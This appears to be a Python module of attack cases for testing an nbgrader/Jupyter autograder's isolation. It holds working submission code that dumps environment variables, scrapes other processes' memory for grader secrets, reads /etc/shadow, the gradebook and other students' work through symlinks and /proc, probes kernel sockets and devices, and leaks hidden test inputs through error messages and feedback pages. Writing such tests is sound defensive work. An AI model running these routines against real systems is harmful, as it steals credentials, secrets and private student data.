"""Attacks that read: references, challenges, seeds, files and memory of the grader, of others, of the machine."""

from __future__ import annotations

import os

from attacks.attack import NOTEBOOK, Attack, answers, beside, both, code, first


def _linked(name: str, to: str):
    """A symbolic link beside the notebook."""

    def make(notebook, folder, target):
        (folder / name).symlink_to(getattr(target, to, to))

    return make


def _hard_linked(notebook, folder, target):
    os.link(target.prefix + target.secret, folder / "notes.txt")


def _folder_linked(notebook, folder, target):
    (folder / "images").symlink_to(os.path.dirname(target.secret), target_is_directory=True)


PRINTS_FILES = """
import os
for top, _, names in os.walk("."):
    for name in names:
        try:
            print(name, open(os.path.join(top, name), errors="replace").read(4000))
        except OSError as trouble:
            print(name, trouble)
"""

ATTACKS = [
    Attack(
        "own-environment",
        "read",
        "Prints its environment, where a seed or a password may stand.",
        code("import os\nprint(dict(os.environ))"),
    ),
    Attack(
        "environments",
        "read",
        "Reads /proc/*/environ and /proc/*/cmdline of every process.",
        code("""
        import glob
        for path in sorted(glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline")):
            try:
                print(path, open(path, "rb").read()[-3000:])
            except OSError: pass
        """),
    ),
    Attack(
        "parents-memory",
        "read",
        "Searches the memory of its parent and its own for the grader's secrets, through /proc/PID/mem.",
        code("""
        import os, re
        wanted = re.compile(rb"SECRET-[a-z]+-[0-9a-f]{16}")
        found, pid = set(), os.getpid()
        while pid > 0:
            try:
                maps, mem = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb", 0)
                for line in maps:
                    span, rights = line.split()[:2]
                    start, end = (int(x, 16) for x in span.split("-"))
                    if "rw" in rights and end - start < 2**28:
                        try:
                            mem.seek(start)
                            found.update(wanted.findall(mem.read(end - start)))
                        except (OSError, ValueError, OverflowError): pass
            except OSError as trouble: print(pid, trouble)
            try:
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except OSError: break
        print(found)
        """),
    ),
    Attack(
        "process-vm-readv",
        "read",
        "Reads other processes' stacks with process_vm_readv.",
        code("""
        import ctypes, os, re
        libc = ctypes.CDLL(None, use_errno=True)
        class Vec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
        wanted = re.compile(rb"SECRET-[a-z]+-[0-9a-f]{16}")
        for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
            try:
                stack = [l for l in open(f"/proc/{pid}/maps") if "[stack]" in l or "[heap]" in l]
            except OSError: continue
            for line in stack:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                size = min(end - start, 2**24)
                buffer = ctypes.create_string_buffer(size)
                got = libc.process_vm_readv(pid, ctypes.byref(Vec(ctypes.addressof(buffer), size)), 1,
                                            ctypes.byref(Vec(start, size)), 1, 0)
                print(pid, got, set(wanted.findall(buffer.raw[: max(got, 0)])))
        """),
    ),
    Attack(
        "open-files",
        "read",
        "Reads whatever its own and other processes hold open, through /proc/*/fd.",
        code("""
        import glob, os
        for path in glob.glob("/proc/[0-9]*/fd/*"):
            try:
                to = os.readlink(path)
                if to.startswith("/") and not to.startswith(("/dev", "/proc")):
                    print(path, to, open(path, "rb").read(3000))
            except OSError: pass
        """),
    ),
    Attack(
        "other-roots",
        "read",
        "Reaches the machine's files through /proc/*/root and /proc/*/cwd.",
        code("""
        import glob
        for place in glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd"):
            for path in ("$secret", "$course/.hidden_seed"):
                try:
                    print(place, open(place + path).read(2000))
                except OSError: pass
        """),
    ),
    Attack(
        "secret-file",
        "read",
        "Opens a file of the instructor's by its path.",
        code("print(open('$secret').read())"),
    ),
    Attack(
        "hidden-seed",
        "read",
        "Reads the course's hidden seed, its settings and its solutions from the course's folder.",
        code("""
        import glob
        for path in ["$course/.hidden_seed", "$course/nbgrader_config.py", *glob.glob("$course/solutions/*/*")]:
            try:
                print(path, open(path, errors="replace").read(60000))
            except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "upwards",
        "read",
        "Walks up from its folder, ../../.., and prints what it finds on the way.",
        code("""
        import glob, os
        here = os.getcwd()
        for up in range(1, 8):
            for path in sorted(glob.glob(os.path.join(here, *[".."] * up, "*")) +
                               glob.glob(os.path.join(here, *[".."] * up, ".*")))[:80]:
                if os.path.isfile(path) and os.path.getsize(path) < 100_000:
                    try: print(path, open(path, errors="replace").read(1500))
                    except OSError: pass
        """),
    ),
    Attack(
        "gradebook-read",
        "read",
        "Opens nbgrader's database and prints the students in it.",
        code("""
        import sqlite3
        base = sqlite3.connect("file:$gradebook?mode=ro", uri=True)
        print(base.execute("select * from student").fetchall())
        """),
    ),
    Attack(
        "other-students",
        "read",
        "Prints what another student handed in.",
        code("print(open('$other_notebook').read()[-8000:])"),
    ),
    Attack(
        "package-searched",
        "read",
        "Searches every folder that Python imports from for the text of the reference.",
        code("""
        import glob, os, sys
        import interp_ref
        places = {os.path.dirname(interp_ref.__file__), "$course/interp_ref", *sys.path}
        for place in places:
            for name in ("methods/grad_cam.py", "exercises/lesson03_gradients.py", "interp_ref/methods/grad_cam.py"):
                path = os.path.join(place or ".", name)
                if os.path.exists(path): print(path, open(path).read())
        try:
            import inspect, interp_ref.methods.grad_cam as reference
            print(inspect.getsource(reference))
        except Exception as trouble: print(repr(trouble)[:300])
        """),
    ),
    Attack(
        "memory-searched",
        "read",
        "Searches all Python objects for the reference's functions, hints and challenges.",
        code("""
        import gc, types
        for one in gc.get_objects():
            if isinstance(one, types.FunctionType) and str(one.__module__).startswith(("interp_ref.methods", "interp_ref.exercises")):
                print(one.__module__, one.__name__, (one.__doc__ or "")[:400])
            elif type(one).__name__ in ("Exercise", "Challenge", "Misconception"):
                print(type(one).__name__, str(vars(one))[:300])
        """),
    ),
    Attack(
        "hidden-inputs-printed",
        "read",
        "Keeps the hidden challenges' inputs and prints them in a later cell, for the feedback page.",
        answers(
            channel_weights="SEEN = []\ndef channel_weights(gradients):\n    SEEN.append(gradients)\n    return 0",
            grad_cam="for one in SEEN:\n    print('HIDDEN', f'{float(np.sum(one)):.9e}')",
        ),
    ),
    Attack(
        "hidden-inputs-raised",
        "read",
        "Puts the hidden challenges' inputs into an error's message and into what it prints.",
        code("""
        def channel_weights(gradients):
            print("HIDDEN", f"{float(np.sum(gradients)):.9e}")
            raise ValueError(f"HIDDEN {float(np.sum(gradients)):.9e}")
        """),
    ),
    Attack(
        "symlink-to-a-secret",
        "read",
        "A symbolic link beside the notebook to a file of the instructor's, and a cell that prints it.",
        both(_linked("notes.txt", "secret"), code(PRINTS_FILES)),
    ),
    Attack(
        "symlink-to-gradebook",
        "read",
        "A symbolic link to the gradebook, to be copied into the feedback.",
        both(_linked("data.csv", "gradebook"), code(PRINTS_FILES)),
    ),
    Attack(
        "symlink-to-shadow",
        "read",
        "A symbolic link to /etc/shadow.",
        both(_linked("notes.txt", "/etc/shadow"), code(PRINTS_FILES)),
    ),
    Attack(
        "symlinked-folder",
        "read",
        "A symbolic link to a folder of the instructor's.",
        both(_folder_linked, code(PRINTS_FILES)),
    ),
    Attack(
        "hard-link",
        "read",
        "A hard link to a file of the instructor's beside the notebook.",
        both(_hard_linked, code(PRINTS_FILES)),
    ),
    Attack(
        "notebook-is-a-secret",
        "read",
        "The notebook itself is a symbolic link to a file of the instructor's.",
        _linked(NOTEBOOK, "secret"),
    ),
    Attack(
        "kernel-files",
        "read",
        "Looks for connection files and sockets of other kernels and talks to them.",
        code("""
        import glob, json, os, socket
        for path in glob.glob("/tmp/**/*", recursive=True) + glob.glob("/run/**/*", recursive=True) + \\
                glob.glob(os.path.expanduser("~/.local/share/jupyter/runtime/*")):
            try:
                text = open(path, errors="replace").read(3000)
                if "shell_port" in text: print("CONNECTION", path, text)
            except OSError: pass
            try:
                if os.path.exists(path) and (os.stat(path).st_mode & 0o170000) == 0o140000:
                    s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect(path)
                    print("SOCKET", path)
            except OSError: pass
        """),
    ),
    Attack(
        "devices",
        "read",
        "Opens the machine's devices: disks, memory, terminals, graphics cards.",
        code("""
        import glob, os
        for path in glob.glob("/dev/**", recursive=True):
            if path != "/dev/pts/ptmx" and any(part in path for part in ("sd", "vd", "nvme", "mem", "kmsg", "nvidia", "dri", "kvm", "tty", "pts/")):
                try:
                    handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                    print("BREACH opened", path)
                except OSError: pass
        """),
    ),
    Attack(
        "keyring",
        "read",
        "Stores a key in the kernel's keyrings for the next submission, and lists those that are there.",
        code("""
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        add = lambda ring: libc.syscall(248, b"user", b"$mark", b"payload", 7, ctypes.c_int(ring))
        print("added", [add(ring) for ring in (-3, -4, -5)])
        try: print(open("/proc/keys").read())
        except OSError as trouble: print(trouble)
        """),
    ),
    Attack(
        "oracle-for-secrets",
        "read",
        "Sends the grader's stand-in names of its own objects, paths and code in the place of an exercise.",
        both(
            answers(
                channel_weights="def channel_weights(gradients): return 0",
                grad_cam="""
                def grad_cam(model, images, class_index, layer):
                    from base64 import b64encode
                    from IPython import get_ipython
                    for prompt in ("interp-given:", "interp-given:$secret", "interp-given:__import__('os')", "{0.__globals__}"):
                        try: print(get_ipython().kernel.raw_input(prompt))
                        except Exception as trouble: print(trouble)
                    return 0
                """,
            ),
            first("print('first')"),
        ),
    ),
    Attack(
        "image-from-a-path",
        "read",
        "Markdown and HTML that embed a file of the instructor's, for the page that is made on their machine.",
        both(
            beside("style.css", "@import url('file://$secret');"),
            code("""
            from IPython.display import HTML, Markdown, display
            display(Markdown("![x](file://$secret) ![y]($secret)"), HTML("<img src='file://$secret'><embed src='$secret'>"))
            """),
        ),
    ),
]
